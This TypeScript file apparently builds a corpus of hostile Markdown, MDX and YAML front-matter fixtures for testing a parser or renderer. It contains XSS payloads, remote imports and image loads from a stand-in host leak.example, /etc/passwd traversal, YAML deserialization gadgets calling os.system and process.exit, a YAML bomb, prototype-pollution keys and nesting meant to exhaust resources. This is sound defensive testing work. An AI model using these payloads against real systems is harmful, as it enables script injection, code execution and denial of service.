import { ADDRESSES, BREAKERS, LEAK, PROSE, RUN } from './payloads.ts';

/** What hostile Markdown puts into its text. */
const MARKDOWN: Readonly<Record<string, string>> = {
  'raw-html': `<script>${RUN}</script>\n\n<img src=x onerror="${RUN}">\n\n<div onclick="alert(1)">\n\n**bold**\n\n</div>\n\n<iframe src="${LEAK}">\n\n<!-- <script>alert(1)</script>`,
  'inline-html': `A <b onclick=alert(1)>bold</b> <img src=x onerror=alert(1)> <svg/onload=alert(1)> <a href="javascript:alert(1)">click</a> <style>*{display:none}</style>.`,
  links: Object.values(ADDRESSES)
    .map(
      (address) =>
        `[shown](<${address.replace(/[\n<>]/g, '')}>) [plain](${address.replace(/\s/g, '')})`,
    )
    .join('\n\n'),
  autolinks: `<javascript:alert(1)> <data:text/html,x> <https://leak.example/a> www.leak.example https://leak.example/b a@leak.example <vbscript:x>`,
  references: `[a][1] ![b][1] [c]: javascript:alert(1)\n\n[1]: javascript:alert(1) "title\\" onload=alert(1)"\n[2]: <data:text/html,x>\n\n[d][2]`,
  'reference-ids': `[x][__proto__] [y][constructor] [z][toString]\n\n[__proto__]: https://leak.example/p\n[constructor]: javascript:alert(1)`,
  images: `![a](${LEAK}/a.png) ![b](javascript:alert(1)) ![c](data:image/svg+xml,<svg/onload=alert(1)>) ![d](x" onerror="alert(1)) ![[secret.png]] ![e](image:../../x)`,
  footnotes: `Text[^1] and[^<img src=x onerror=alert(1)>] and[^__proto__].\n\n[^1]: <script>alert(1)</script> [^1] endless\n[^__proto__]: proto`,
  code: `\`\`\`js onload=alert(1) {1,2} "><script>alert(1)</script>\nimport x from 'y'\nexport const z = {a}\n\`\`\`\n\n~~~"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n~~~\n\n    indented <script>alert(1)</script>`,
  mdx: `import Evil from '${LEAK}/evil.js'\n\nexport const evil = (() => { ${RUN} })()\n\n<Evil {...props} onClick={() => alert(1)} />\n\n{alert(1)} {/* {*/}\n\n<>{globalThis.ran = 1}</>\n\n{\`\${alert(1)}\`}`,
  'mdx-in-fence': `\`\`\`mdx\nimport x from 'x'\n\`\`\`\n\n\`\`\`\nexport default function () { alert(1) }\n\`\`\`\n\nexport default () => alert(1)`,
  comments: `%% obsidian %% <!-- html --> [//]: # (markdown) {/* mdx */} <!-- never closed`,
  math: `$\\href{javascript:alert(1)}{x}$ and $$\\htmlClass{top}{y} \\input{/etc/passwd} \\def\\a{\\a\\a}\\a$$ and \`$\\includegraphics{${LEAK}/x}$\``,
  tables: `| a | <script>alert(1)</script> |\n|:-|-:|\n| \\| {x} | ![x](${LEAK}/t.png) |\n|${' x |'.repeat(500)}`,
  headings: `# <img src=x onerror=alert(1)>\n\n## __proto__\n\n## constructor\n\n## main {#main onload=alert(1)}\n\nSetext <b>\n=====\n\n###### ${'deep '.repeat(500)}`,
  directives: `:::note{onclick=alert(1)}\ntext\n:::\n\n:leak[x]{href=javascript:alert(1)} ::video{src=${LEAK}}`,
  nesting: `${'> '.repeat(300)}deep\n\n${Array.from({ length: 200 }, (_, index) => `${' '.repeat(2 * index)}- x`).join('\n')}`,
  emphasis: `${'*'.repeat(3000)}a${'*'.repeat(3000)} ${'_a'.repeat(3000)} ${'[`'.repeat(2000)} ${'**a '.repeat(2000)}`,
  brackets: `${'['.repeat(5000)} ${'!['.repeat(3000)} ${'[a]('.repeat(3000)} ${'<'.repeat(3000)} ${'[[x'.repeat(2000)}`,
  wiki: `[[../../etc/passwd]] [[Skarn|<img src=x onerror=alert(1)>]] [@a "quote <script>"] [@__proto__] [[a\u202Eb]]`,
  entities: `&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &NewLine; &#0; &#x1f; &colon;`,
  dataview:
    '```dataviewjs\ndv.view("x")\n```\n\n`=this.file` `$=dv.current()`\n\n```ad-note\nx\n```',
};

/** Front matter that a careless parser would run, swell or choke on. */
const FRONT: Readonly<Record<string, string>> = {
  js: `---js\n{ title: (() => { globalThis.ran = 1; return 'ran' })() }\n---\n`,
  javascript: '---javascript\nmodule.exports = { title: process.exit(1) }\n---\n',
  coffee: '---coffee\ntitle: do -> process.exit 1\n---\n',
  json: '---json\n{"title": "</script><script>alert(1)</script>", "__proto__": {"ran": 1}}\n---\n',
  toml: '+++\ntitle = "x"\n+++\n',
  'yaml-js-function': '---\ntitle: !!js/function "function(){process.exit(1)}"\n---\n',
  'yaml-js-undefined': "---\ntitle: !!js/undefined ''\nurl: !!js/regexp /x/\n---\n",
  'yaml-python': '---\ntitle: !!python/object/apply:os.system ["touch /tmp/ran"]\n---\n',
  'yaml-bomb': `---\na: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghij'.replace(/./g, (key) => `${key}: &${key} [${Array.from({ length: 9 }, () => `*${String.fromCharCode(key.charCodeAt(0) - 1)}`).join(',')}]\n`)}title: *j\n---\n`,
  'yaml-cycle': '---\ntitle: &a [*a]\nauthors: &b {x: *b}\n---\n',
  'yaml-merge': '---\nbase: &b {title: merged, __proto__: {ran: 1}}\n<<: *b\n---\n',
  'yaml-proto': '---\n__proto__: {ran: 1}\nconstructor: {prototype: {ran: 1}}\ntitle: proto\n---\n',
  'yaml-deep': `---\ntitle: ${'['.repeat(3000)}${']'.repeat(3000)}\n---\n`,
  'yaml-binary':
    '---\ntitle: !!binary aGVsbG8=\npublished: !!timestamp 2024-01-01\ntags: !!set {a, b}\n---\n',
  'yaml-directives': '---\n%YAML 9.9\n%TAG ! tag:leak.example,2000:\n---\ntitle: !x y\n---\n',
  'yaml-long-key': `---\n? ${'k'.repeat(3000)}\n: value\ntitle: x\n---\n`,
  'yaml-many-documents': '---\ntitle: a\n...\n---\ntitle: b\n---\n',
  unclosed: '---\ntitle: never closed\n',
};

export function* textFiles(): Generator<[path: string, content: string]> {
  for (const [name, text] of Object.entries(MARKDOWN)) {
    yield [
      `markdown/text-${name}.md`,
      `---\ntitle: "Markdown: ${name}"\n---\n\n${PROSE}\n\n${text}\n\n${PROSE}\n`,
    ];
  }
  for (const [name, front] of Object.entries(FRONT))
    yield [`markdown/front-${name}.md`, `${front}\n${PROSE}\n`];
  for (const [name, payload] of Object.entries(BREAKERS)) {
    const value = JSON.stringify(payload.toWellFormed());
    yield [
      `markdown/field-${name}.md`,
      `---\ntitle: ${value}\nauthor: [${value}]\ntags: [${value}]\nsource: ${value}\ndescription: ${value}\npublished: ${value}\n---\n\n${payload}\n\n${PROSE}\n`,
    ];
    if (name.length % 2 === 0)
      yield [`text/${name}.txt`, `${payload}\n\nBy ${payload}\n\n${PROSE}\n\n${payload}\n`];
  }
}
